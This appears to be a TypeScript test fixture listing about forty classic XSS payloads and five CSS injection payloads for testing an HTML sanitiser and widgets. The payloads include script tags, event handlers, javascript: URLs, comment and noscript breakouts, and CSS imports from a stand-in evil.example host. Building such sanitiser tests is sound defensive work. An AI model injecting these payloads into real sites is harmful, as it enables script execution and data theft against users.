/**
 * Classic XSS payloads, for the sanitiser's unit test and the browser test that renders them through the
 * HTML, banner and SEO widgets. Every payload tries to call `window.__xss(id)`; a test page defines that
 * hook and fails when anything calls it. Test data only: no app module imports this file.
 */
export const XSS_PAYLOADS: ReadonlyArray<readonly [id: string, html: string]> = [
  ['script', '<script>window.__xss("script")</script>'],
  ['script-src', '<script src="data:text/javascript,window.__xss(\'script-src\')"></script>'],
  ['img-onerror', '<img src="/nope.png" onerror="window.__xss(\'img-onerror\')">'],
  ['img-onerror-broken', '<img src=x onerror=window.__xss("img-onerror-broken")//'],
  ['svg-onload', '<svg onload="window.__xss(\'svg-onload\')"><circle r="1"/></svg>'],
  ['svg-script', '<svg><script>window.__xss("svg-script")</script></svg>'],
  ['svg-animate', '<svg><animate onbegin="window.__xss(\'svg-animate\')" attributeName="x" dur="1s"/></svg>'],
  ['a-javascript', '<a href="javascript:window.__xss(\'a-javascript\')" id="xss-a-javascript">x</a>'],
  ['a-javascript-entity', '<a href="jav&#x09;ascript:window.__xss(\'a-javascript-entity\')">x</a>'],
  ['a-vbscript', '<a href="vbscript:msgbox(1)">x</a>'],
  ['a-data', '<a href="data:text/html,<script>window.__xss(\'a-data\')</script>">x</a>'],
  ['body-onload', '<body onload="window.__xss(\'body-onload\')">'],
  ['iframe-srcdoc', '<iframe srcdoc="<script>parent.__xss(\'iframe-srcdoc\')</script>"></iframe>'],
  ['iframe-javascript', '<iframe src="javascript:parent.__xss(\'iframe-javascript\')"></iframe>'],
  ['object-data', '<object data="data:text/html,<script>parent.__xss(\'object-data\')</script>"></object>'],
  ['embed', '<embed src="data:text/html,<script>parent.__xss(\'embed\')</script>">'],
  ['meta-refresh', '<meta http-equiv="refresh" content="0;url=javascript:window.__xss(\'meta-refresh\')">'],
  [
    'meta-refresh-data',
    '<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">',
  ],
  ['style-expression', '<div style="width: expression(window.__xss(\'style-expression\'))">x</div>'],
  ['style-url-javascript', '<div style="background:url(javascript:window.__xss(\'style-url\'))">x</div>'],
  ['style-element', '<style>@import "javascript:window.__xss(\'style-element\')";</style>'],
  [
    'details-ontoggle',
    '<details open ontoggle="window.__xss(\'details-ontoggle\')"><summary>x</summary></details>',
  ],
  ['input-autofocus', '<input autofocus onfocus="window.__xss(\'input-autofocus\')">'],
  ['video-source', '<video><source onerror="window.__xss(\'video-source\')"></video>'],
  [
    'form-action',
    '<form action="javascript:window.__xss(\'form-action\')"><button id="xss-form">go</button></form>',
  ],
  ['button-formaction', '<button formaction="javascript:window.__xss(\'button-formaction\')">x</button>'],
  [
    'math-href',
    '<math><maction actiontype="statusline" xlink:href="javascript:window.__xss(\'math\')">x</maction></math>',
  ],
  ['base-href', '<base href="javascript:window.__xss(\'base-href\')//">'],
  ['link-import', '<link rel="import" href="data:text/html,<script>window.__xss(\'link-import\')</script>">'],
  ['link-stylesheet', '<link rel="stylesheet" href="javascript:window.__xss(\'link-stylesheet\')">'],
  [
    'noscript-breakout',
    '<noscript><p title="</noscript><img src=x onerror=window.__xss(\'noscript\')>"></noscript>',
  ],
  ['template-mxss', '<template><img src=x onerror=window.__xss("template")></template>'],
  ['comment-breakout', '<!--<img src="--><img src=x onerror=window.__xss(\'comment\')//">'],
  ['dom-clobbering', '<img name="cookie" id="__xss"><form id="body"></form>'],
  ['marquee', '<marquee onstart="window.__xss(\'marquee\')">x</marquee>'],
  ['uppercase-script', '<SCRIPT>window.__xss("uppercase")</SCRIPT>'],
  ['nested-script', '<scr<script>ipt>window.__xss("nested")</scr</script>ipt>'],
  [
    'jsonld-breakout',
    '<script type="application/ld+json">{"a":"</script><script>window.__xss(\'jsonld\')</script>"}</script>',
  ],
];

/** Widget CSS payloads (they must neither run code nor fetch from elsewhere). */
export const CSS_PAYLOADS: ReadonlyArray<readonly [id: string, css: string]> = [
  ['css-breakout', '</style><script>window.__xss("css-breakout")</script><style>'],
  ['css-expression', '.x { width: expression(window.__xss("css-expression")); }'],
  ['css-import', '@import url("https://evil.example/x.css");'],
  ['css-url-javascript', '.x { background: url(javascript:window.__xss("css-url")); }'],
  ['css-binding', '.x { -moz-binding: url("https://evil.example/x.xml#x"); behavior: url(x.htc); }'],
];
